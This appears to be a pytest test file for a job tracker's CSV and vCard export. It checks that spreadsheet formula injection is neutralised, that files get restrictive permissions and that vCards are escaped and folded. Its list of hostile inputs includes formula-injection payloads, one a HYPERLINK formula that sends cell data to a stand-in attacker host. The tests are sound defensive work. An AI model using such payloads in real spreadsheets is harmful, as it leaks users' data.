"""CSV for spreadsheets (never a formula) and vCard 4.0 for contacts."""

from __future__ import annotations

import csv
import os
import stat
from datetime import date
from pathlib import Path

import pytest

from tracker.db.enums import Stage
from tracker.domain.applications import ApplicationInput, create_application
from tracker.domain.contacts import ContactInput, create_contact
from tracker.domain.demo import load_demo
from tracker.domain.exchange.sheets import (
    CSV_TABLES,
    FORMULA_STARTS,
    export_csv,
    formula_safe,
)
from tracker.domain.exchange.vcard import export_vcard
from tracker.domain.store import Store

HOSTILE = [
    "=1+2",
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd",
    "\t=tab",
    "\r=carriage",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    'line one\nline two, with a comma and "quotes"',
    "plain ünïcødé 🙂",
]


@pytest.fixture
def out(tmp_path: Path) -> Path:
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def _read(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_reads_back_guarded_and_never_as_a_formula(
    store: Store, out: Path, text: str
) -> None:
    create_application(store, ApplicationInput("Acme", "Engineer", notes=text, source=text))
    path = out / "applications.csv"
    export_csv(store, path)
    (row,) = _read(path)
    # The checker trims what people type, so compare with the trimmed text.
    stored = text.strip()
    for cell in (row["Notes"], row["Source"].strip()):
        assert not cell.startswith(FORMULA_STARTS)
    assert row["Notes"] == formula_safe(stored)
    if stored.startswith(FORMULA_STARTS):
        assert row["Notes"] == "'" + stored


def test_every_cell_of_every_table_is_safe(store: Store, out: Path) -> None:
    load_demo(store, today=date(2026, 3, 2))
    contact = create_contact(store, ContactInput("=evil()", title="@title", notes="-1")).value
    assert contact
    written = export_csv(store, out / "jobs.csv", CSV_TABLES)
    assert {p.name for p in written} == {
        "jobs.csv",
        "jobs-interviews.csv",
        "jobs-contacts.csv",
        "jobs-tasks.csv",
    }
    for path in written:
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    contacts = _read(out / "jobs-contacts.csv")
    assert {"Name": "'=evil()", "Title": "'@title", "Notes": "'-1"}.items() <= contacts[-1].items()


def test_applications_carry_stage_counts_and_dates(store: Store, out: Path) -> None:
    load_demo(store, today=date(2026, 3, 2))
    path = out / "applications.csv"
    written = export_csv(store, path)
    assert written == {path: 15}
    rows = {row["Company"]: row for row in _read(path)}
    northwind = rows["Northwind Analytics"]
    assert northwind["Stage"] == "rejected"
    assert northwind["Interviews"] == "2"
    assert northwind["Salary min"] == "80000"
    assert northwind["Currency"] == "EUR"
    assert northwind["Date applied"] == "2026-01-22"
    assert rows["Orchard Robotics"]["Open tasks"] == "1"


def test_the_bom_option_is_for_excel(store: Store, out: Path) -> None:
    create_application(store, ApplicationInput("Ørsted", "Engineer", stage=Stage.APPLIED))
    path = out / "applications.csv"
    export_csv(store, path, bom=True)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfCompany,Role,Stage")
    assert b"\r\n" in raw
    assert _read(path, "utf-8-sig")[0]["Company"] == "Ørsted"


def test_vcards_are_version_4_escaped_and_folded(store: Store, out: Path) -> None:
    create_contact(
        store,
        ContactInput(
            "Tomás Ortega; Jr.",
            title="Engineering Manager, Payments",
            company="Northwind",
            email="tomas@northwind.example",
            phone="+31 6 1234 5678",
            notes="Met at the meetup.\nLikes Rust. " + "ü" * 60,
            in_network=True,
        ),
    )
    create_contact(store, ContactInput("Ana Ruiz"))
    path = out / "contacts.vcf"
    assert export_vcard(store, path) == 2
    raw = path.read_bytes()
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    lines = raw.split(b"\r\n")
    assert all(len(line) <= 75 for line in lines)
    text = raw.decode("utf-8")
    unfolded = text.replace("\r\n ", "")
    assert unfolded.count("BEGIN:VCARD\r\nVERSION:4.0\r\n") == 2
    assert "FN:Tomás Ortega\\; Jr.\r\n" in unfolded
    assert "TITLE:Engineering Manager\\, Payments\r\n" in unfolded
    assert "ORG:Northwind\r\n" in unfolded
    assert "TEL;VALUE=text:+31 6 1234 5678\r\n" in unfolded
    assert "NOTE:Met at the meetup.\\nLikes Rust. " + "ü" * 60 + "\r\n" in unfolded
    assert "CATEGORIES:Job Tracker,Network\r\n" in unfolded
    assert unfolded.endswith("END:VCARD\r\n")
